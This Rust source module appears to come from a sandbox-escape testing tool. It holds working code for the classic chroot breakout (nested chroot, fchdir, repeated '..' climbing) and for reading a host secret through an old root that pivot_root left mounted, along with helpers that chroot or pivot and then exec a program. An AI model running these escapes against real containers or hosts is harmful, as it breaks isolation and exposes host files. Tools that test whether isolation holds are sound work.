//! Out of a chroot by another chroot, and out of a root that was pivoted to half.

use std::fs;
use std::process::{Command, ExitCode};

use std::os::unix::process::CommandExt;

use nix::fcntl::{OFlag, open};
use nix::sys::stat::Mode;
use nix::unistd::{chroot, fchdir, pivot_root};

use crate::{Attempt, Report, Why, text};

/// `attack chroots SECRET`: a file of the host's root.
pub(crate) fn attack(report: &Report, arguments: &[String]) {
    let secret = text(arguments, 0);
    report.line("mkdir-chroot-fchdir", climb(secret));
    report.line("above-the-root", above(secret));
}

/// `attack chroot DIR CMD...`: chroot(2) and nothing else, as a program does that knows no better.
pub(crate) fn plain(arguments: &[String]) -> ExitCode {
    let [dir, program, rest @ ..] = arguments else {
        return ExitCode::from(2);
    };
    if chroot(dir.as_str()).is_err() {
        return ExitCode::from(3);
    }
    let _ = Command::new(program).args(rest).exec();
    ExitCode::from(4)
}

fn climb(secret: &str) -> Attempt {
    let here = open("/", OFlag::O_DIRECTORY, Mode::empty()).why()?;
    // A read-only or foreign box has some directory all the same.
    let made = fs::create_dir("/tmp/deeper").or_else(|_| fs::create_dir("/deeper"));
    let inner = ["/tmp/deeper", "/deeper", "/proc", "/dev"];
    let inner = inner.into_iter().find(|path| fs::metadata(path).is_ok());
    let result = inner
        .ok_or("no directory")
        .and_then(|inner| chroot(inner).map_err(|errno| errno.desc()));
    let _ = made;
    result?;
    fchdir(&here).why()?;
    for _ in 0..64 {
        std::env::set_current_dir("..").why()?;
    }
    chroot(".").why()?;
    let read = fs::read_to_string(secret).why();
    // Back, so that the next attempt begins where this one did.
    let _ = fchdir(&here).and_then(|()| chroot("."));
    let _ = fs::remove_dir("/tmp/deeper").or_else(|_| fs::remove_dir("/deeper"));
    read
}

/// Where pivot_root(2) leaves the old root on top of the new one, and nobody unmounted it.
fn above(secret: &str) -> Attempt {
    std::env::set_current_dir("/")
        .and_then(|()| std::env::set_current_dir(".."))
        .why()?;
    fs::read_to_string(secret.trim_start_matches('/')).why()
}

/// `attack pivot PUT_OLD CMD...`: makes the working directory, a mount, the root, and leaves the old one at PUT_OLD.
pub(crate) fn pivot(arguments: &[String]) -> ExitCode {
    let [put_old, program, rest @ ..] = arguments else {
        return ExitCode::from(2);
    };
    if pivot_root(".", put_old.as_str()).is_err() {
        return ExitCode::from(3);
    }
    let _ = Command::new(program).args(rest).exec();
    ExitCode::from(4)
}
